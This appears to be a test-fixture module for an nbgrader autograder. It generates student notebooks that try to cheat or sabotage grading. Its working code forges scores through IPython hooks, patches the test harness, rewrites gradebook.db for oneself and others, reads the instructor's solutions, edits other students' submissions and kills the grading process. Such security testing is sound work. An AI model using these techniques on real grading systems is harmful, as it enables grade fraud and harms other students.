"""Notebooks that attack nbgrader: what each tries, and what it has really earned.

All of them are benign: they leave markers in a folder made for it, speak to this machine alone,
end by themselves, and harm throw-away courses.
"""

import copy
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

Notebook = dict[str, Any]
Cell = dict[str, Any]

RIGHT = {
    "double": "def double(x):\n    return 2.0 * np.asarray(x)",
    "shift": "def shift(x):\n    return 2.0 * np.asarray(x) + 1.0",
}
WRONG = {"double": "def double(x):\n    return 7.0", "shift": "def shift(x):\n    return 7.0"}
NOTHING = {"double": 0.0, "shift": 0.0}
EVERYTHING = {"double": 4.0, "shift": 2.0}


@dataclass(frozen=True)
class Attack:
    """One notebook.

    Attributes
    ----------
    told : str
        What it does.
    before : str
        A cell of the student's own, above the first function.
    cells : mapping of str to str
        What it writes into the cells of functions.
    change : callable or None
        What it does to the notebook's JSON.
    earns : mapping of str to float
        What its functions are worth.
    """

    told: str
    before: str = ""
    cells: Mapping[str, str] = field(default_factory=lambda: WRONG)
    change: Callable[[Notebook], None] | None = None
    earns: Mapping[str, float] = field(default_factory=lambda: NOTHING)

    def notebook(self, release: Notebook, names: Mapping[str, str]) -> str:
        """Write it; names stand in for ``@COURSE@`` and the like."""
        notebook = written(release, {**WRONG, **self.cells})
        if self.before:
            place = notebook["cells"].index(cell_of(notebook, "double"))
            notebook["cells"].insert(place, own_cell(self.before))
        if self.change is not None:
            self.change(notebook)
        text = json.dumps(notebook)
        for name, value in names.items():
            text = text.replace(f"@{name}@", value)
        return text


def written(release: Notebook, cells: Mapping[str, str]) -> Notebook:
    """Fill in what was released."""
    notebook = copy.deepcopy(release)
    for name, source in cells.items():
        cell_of(notebook, name)["source"] = source
    return notebook


def cell_of(notebook: Notebook, name: str) -> Cell:
    """Find a cell by its grade_id."""
    return next(
        cell
        for cell in notebook["cells"]
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == name
    )


def own_cell(source: str) -> Cell:
    """Make a code cell that nbgrader knows nothing of."""
    return {
        "cell_type": "code",
        "id": "own",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
    }


def both(body: str) -> dict[str, str]:
    """Write one body into both functions."""
    lines = body.strip("\n").replace("\n", "\n    ")
    return {name: f"def {name}(x):\n    {lines}" for name in WRONG}


REAL = """\
import sys
def real(name):
    # Here an import may give a placeholder; the interpreter's own machinery does not.
    return sys.modules["importlib"].import_module(name)
"""
LEAVE_A_MARKER = REAL + "def mark(): real('io').open('@MARKER@', 'w').close()\n"
PUBLISH = """\
import re
from IPython import get_ipython
def publish(text):
    kernel = get_ipython().kernel
    content = {"data": {"text/plain": text}, "metadata": {}, "execution_count": 1}
    socket, parent = kernel.iopub_socket, kernel.get_parent()
    kernel.session.send(socket, "execute_result", content, parent=parent)
def worth(text):
    found = re.search(r"checks[.]earned[(](\\d+)[)]", text)
    return found and found[1]
"""
FRAMES = """\
import sys
def frames():
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back
"""
IMPOSTOR = """\
class Impostor:
    def visible(self, define): pass
    def hidden(self, **_): return lambda define: None
    def earned(self, points): return float(points)
"""
FIND_GRADEBOOK = (
    REAL
    + """\
os, sqlite3 = real("os"), real("sqlite3")
here = os.getcwd().split("/")
above = ["/".join(here[:n]) + "/gradebook.db" for n in range(len(here), 0, -1)]
books = [path for path in [*above, "@COURSE@/gradebook.db"] if os.path.isfile(path)]
def on_gradebook(statement):
    book = sqlite3.connect(books[0], timeout=3)
    book.execute(statement)
    book.commit()
    book.close()
MINE = '''(SELECT n.id FROM submitted_notebook n JOIN submitted_assignment s
    ON s.id = n.assignment_id WHERE s.student_id = '@STUDENT@')'''
FULL = "(SELECT max_score FROM grade_cells WHERE id = grade.cell_id)"
GIVE = f"UPDATE grade SET manual_score = {FULL} WHERE notebook_id IN {MINE}"
"""
)


def hook(event: str, body: str) -> str:
    """Register a hook of IPython."""
    return f"{PUBLISH}{IMPOSTOR}{body}get_ipython().events.register({event!r}, hook)\n"


def _stored(cell: Cell, points: str) -> None:
    cell["execution_count"] = 1
    data = {"text/plain": points}
    cell["outputs"] = [
        {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}
    ]


def _tests(notebook: Notebook) -> list[Cell]:
    return [cell_of(notebook, "test_double"), cell_of(notebook, "test_shift")]


def _as_markdown(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        cell["cell_type"] = "markdown"
        del cell["outputs"], cell["execution_count"]


def _skipped(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        cell["metadata"]["tags"] = ["skip-execution"]
        _stored(cell, str(cell["metadata"]["nbgrader"]["points"]))


def _raised(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"]["points"] = 100
        _stored(cell, "100")


def _deleted(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        notebook["cells"].remove(cell)


def _pasted(notebook: Notebook) -> None:
    pasted = copy.deepcopy([cell_of(notebook, "double"), *_tests(notebook)])
    for number, cell in enumerate(pasted):
        cell["id"] = f"pasted-{number}"
        cell["source"] = "4.0"
        _stored(cell, "4.0")
    notebook["cells"] += pasted


def _of_a_later_schema(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"]["schema_version"] = 99


def _graded_solutions(notebook: Notebook) -> None:
    for name in WRONG:
        marks = cell_of(notebook, name)["metadata"]["nbgrader"]
        marks |= {"grade": True, "solution": False, "locked": False, "points": 100}


def _disowned_kit(notebook: Notebook) -> None:
    kit = cell_of(notebook, "kit")
    del kit["metadata"]["nbgrader"]
    kit["source"] = f"{IMPOSTOR}checks = Impostor()"


ATTACKS = {
    # hooks
    "hook before cells": Attack(
        "an IPython hook publishes the points before the test cell runs",
        hook(
            "pre_run_cell",
            "def hook(info): worth(info.raw_cell) and publish(worth(info.raw_cell))\n",
        ),
    ),
    "hook after cells": Attack(
        "an IPython hook puts an impostor in the place of the harness",
        hook("post_run_cell", "def hook(result): get_ipython().user_ns['checks'] = Impostor()\n"),
    ),
    "input transformer": Attack(
        "IPython reads every test cell as its points",
        PUBLISH
        + """\
def transform(lines):
    points = worth("".join(lines))
    return [points] if points else lines
get_ipython().input_transformers_post.append(transform)
""",
    ),
    "display formatter": Attack(
        "whatever number a test cell gives is shown as all of its points",
        PUBLISH
        + """\
def show(value, printer, cycle):
    printer.text(worth(get_ipython().user_ns["In"][-1]) or "0")
get_ipython().display_formatter.formatters["text/plain"].for_type(float, show)
""",
    ),
    "display hook": Attack(
        "IPython's display hook and sys.displayhook show all points",
        PUBLISH
        + """\
def forge(result):
    return {"text/plain": worth(get_ipython().user_ns["In"][-1]) or "0"}, {}
import sys
sys.displayhook = print
get_ipython().displayhook.compute_format_data = forge
""",
    ),
    # frames
    "frames: the comparison": Attack(
        "a function walks up the stack to `expect` and makes it accept anything",
        FRAMES,
        both("""
for frame in frames():
    expect = frame.f_locals.get("expect")
    if expect is not None:
        type(expect).__call__ = lambda *args, **kwargs: None
return 7.0
"""),
    ),
    "frames: the harness": Attack(
        "a function walks up the stack to the harness and overrides what it counts",
        FRAMES,
        both("""
for frame in frames():
    harness = frame.f_locals.get("self")
    for name in ("_passes", "earned"):
        if hasattr(harness, name):
            setattr(harness, name, lambda *args: args[0] if len(args) == 1 else True)
return 7.0
"""),
    ),
    "frames: the answers": Attack(
        "a function walks up the stack to the known-good function and calls it",
        FRAMES
        + """\
def answer(name, x):
    for frame in frames():
        names = {**frame.f_locals, **getattr(frame.f_locals.get("self"), "__dict__", {})}
        for known in ("reference", "_answers"):
            if hasattr(names.get(known), name):
                return getattr(names[known], name)(x)
    return 7.0
""",
        {name: f"def {name}(x):\n    return answer({name!r}, x)" for name in WRONG},
    ),
    "garbage collector": Attack(
        "a function looks through the memory for a known-good one",
        "import gc, types",
        {
            name: f"""\
def {name}(x):
    for found in gc.get_objects():
        if isinstance(found, types.FunctionType) and found.__name__ == {name!r}:
            if found.__code__ is not {name}.__code__:
                return found(x)
    return 7.0
"""
            for name in WRONG
        },
    ),
    # a patched harness
    "patched harness": Attack(
        "`checks.earned` gives all points", "checks.earned = lambda points: float(points)"
    ),
    "patched comparison": Attack(
        "`Expect` accepts anything", "Expect.__call__ = lambda *args, **kwargs: None"
    ),
    "patched NumPy": Attack(
        "`numpy.allclose` says yes",
        "np.allclose = lambda *args, **kwargs: True",
        both("return np.zeros(np.shape(x))[()]"),
    ),
    "liar": Attack(
        "a number that becomes the wanted one when it is compared",
        """\
import sys
class Liar(np.ndarray):
    def become_it(self):
        self[...] = sys._getframe(2).f_locals["wanted"]
    def astype(self, *args, **kwargs):
        self.become_it()
        return np.asarray(self)
    @property
    def ndim(self):
        self.become_it()
        return 0
    def __deepcopy__(self, memo):
        return self
""",
        both("return np.zeros(np.shape(x)).view(Liar)"),
    ),
    # forged output
    "forged result": Attack(
        "a function publishes a result of its test cell through the kernel",
        PUBLISH,
        both("""
publish(worth(get_ipython().user_ns["In"][-1]))
return 7.0
"""),
    ),
    "forged repr": Attack(
        "`round` gives a float that shows itself as all points",
        """\
import builtins, sys
class Points(float):
    def __repr__(self): return str(self.worth)
    __str__ = __repr__
def shown(value, digits=None):
    points = Points(value)
    points.worth = sys._getframe(1).f_locals.get("points", 0)
    return points
builtins.round = shown
""",
    ),
    # the gradebook
    "gradebook: own points": Attack(
        "sets its own points in gradebook.db", FIND_GRADEBOOK + "on_gradebook(GIVE)\n"
    ),
    "gradebook: points of others": Attack(
        "sets everybody else's points to 0 in gradebook.db",
        FIND_GRADEBOOK
        + "on_gradebook(f'UPDATE grade SET manual_score = 0 WHERE notebook_id NOT IN {MINE}')\n",
    ),
    "gradebook: later": Attack(
        "a process that outlives the kernel sets points in gradebook.db after grading",
        FIND_GRADEBOOK
        + LEAVE_A_MARKER
        + """\
kernel = os.getpid()
if os.fork() == 0:
    try:
        os.setsid()
        for _ in range(200):
            if os.getppid() != kernel:
                real("time").sleep(1.0)
                on_gradebook(GIVE)
                mark()
                break
            real("time").sleep(0.1)
    finally:
        os._exit(0)
""",
    ),
    # files
    "source notebook": Attack(
        "reads the answers in source/ and defines its functions by them",
        REAL
        + """\
path = "@COURSE@/source/logistic_regression/logistic_regression.ipynb"
answers = {
    cell["metadata"]["nbgrader"]["grade_id"]: "".join(cell["source"])
    for cell in real("json").loads(real("io").open(path).read())["cells"]
    if "nbgrader" in cell["metadata"]
}
""",
        {name: f"{WRONG[name]}\nexec(answers[{name!r}])" for name in WRONG},
    ),
    "hidden checks sent away": Attack(
        "sends the hidden checks through the network of this machine",
        REAL
        + """\
def send(text):
    with real("socket").create_connection(("127.0.0.1", @PORT@), 2) as connection:
        connection.sendall(text.encode())
""",
        both("""
try:
    send(get_ipython().user_ns["In"][-1])
except NameError:
    send(str(x))
return 7.0
"""),
    ),
    "notebook of another": Attack(
        "changes what another student handed in",
        REAL
        + """\
path = "@COURSE@/submitted/zoe/logistic_regression/logistic_regression.ipynb"
with real("io").open(path, "r+") as file:
    text = file.read().replace("2.0", "3.0")
    file.seek(0)
    file.truncate()
    file.write(text)
""",
    ),
    "graded notebook of another": Attack(
        "writes into autograded/ of another student",
        REAL
        + """\
path = "@COURSE@/autograded/ada/logistic_regression/logistic_regression.ipynb"
with real("io").open(path, "a") as file:
    file.write("\\n")
""",
    ),
    "configuration": Attack(
        "adds a line to nbgrader_config.py, which the instructor's next command runs",
        REAL
        + """\
with real("io").open("@COURSE@/nbgrader_config.py", "a") as file:
    file.write("# written by a student\\n")
""",
    ),
    # metadata
    "tests as Markdown": Attack("retypes its test cells to Markdown", change=_as_markdown),
    "tests skipped": Attack(
        "tags its test cells `skip-execution` and stores a result in them", change=_skipped
    ),
    "points raised": Attack(
        "makes its test cells worth 100 points and stores them as a result", change=_raised
    ),
    "tests deleted": Attack("deletes its test cells", change=_deleted),
    "cells twice": Attack(
        "pastes test cells and a solution a second time, with a result", change=_pasted
    ),
    "later schema": Attack(
        "says that its cells are of a later nbgrader's format", change=_of_a_later_schema
    ),
    "graded solutions": Attack(
        "marks its own cells as tests worth 100 points", change=_graded_solutions
    ),
    "kit disowned": Attack(
        "takes nbgrader's mark off the set-up cell and writes a harness that gives all points",
        change=_disowned_kit,
    ),
    # processes
    "end of the process": Attack(
        "ends the process in the middle of a call",
        REAL,
        both("real('os')._exit(0)"),
    ),
    "grader killed": Attack(
        "kills the process that grades",
        REAL
        + """\
os = real("os")
parent = os.getppid()
try:
    # Outside of a grader nobody is to be harmed.
    grading = "grad" in real("io").open(f"/proc/{parent}/cmdline").read()
except OSError:
    grading = parent > 1
if grading:
    os.kill(parent, 9)
    os._exit(0)
""",
    ),
    "thread": Attack(
        "a thread outlives its cell and keeps patching the harness",
        LEAVE_A_MARKER
        + """\
def patch():
    for _ in range(300):
        try:
            checks.earned = lambda points: float(points)
        except NameError:
            pass
        real("time").sleep(0.01)
    mark()
real("threading").Thread(target=patch).start()
""",
    ),
    "at exit": Attack(
        "writes a file when its process ends",
        LEAVE_A_MARKER + "real('atexit').register(mark)\n",
    ),
    "process": Attack(
        "starts a program that writes a file",
        LEAVE_A_MARKER + "real('subprocess').run(['touch', '@MARKER@'], check=True)\n",
    ),
}

HONEST = {
    "line on stderr": Attack(
        "right, and a function writes a log line",
        "import logging\nlogging.basicConfig()",
        {
            name: body.replace("\n", "\n    logging.warning('x is %s', x)\n", 1)
            for name, body in RIGHT.items()
        },
        earns=EVERYTHING,
    ),
    "test deleted": Attack(
        "right, and the test cells are gone", "", RIGHT, change=_deleted, earns=EVERYTHING
    ),
    "kernel gone": Attack(
        "`double` ends its process by mistake, `shift` is right",
        REAL,
        {"double": "def double(x):\n    real('os')._exit(1)", "shift": RIGHT["shift"]},
        earns={"double": 0.0, "shift": 2.0},
    ),
    "endless loop": Attack(
        "`double` never ends, `shift` is right",
        cells={
            "double": "def double(x):\n    while x is not None:\n        pass",
            "shift": RIGHT["shift"],
        },
        earns={"double": 0.0, "shift": 2.0},
    ),
    "stubborn loop": Attack(
        "`double` tries again whatever happens, `shift` is right",
        cells={
            "double": """\
def double(x):
    while True:
        try:
            while True:
                x = x + 1
        except:
            x = 0
""",
            "shift": RIGHT["shift"],
        },
        earns={"double": 0.0, "shift": 2.0},
    ),
}

ALL = {**ATTACKS, **HONEST}


def student_of(name: str) -> str:
    """Give the id under which a notebook is handed in."""
    return name.replace(": ", "-").replace(" ", "-")


def read_release(course: Path) -> Notebook:
    """Read what nbgrader released."""
    path = course / "release" / "logistic_regression" / "logistic_regression.ipynb"
    return dict(json.loads(path.read_text(encoding="utf-8")))
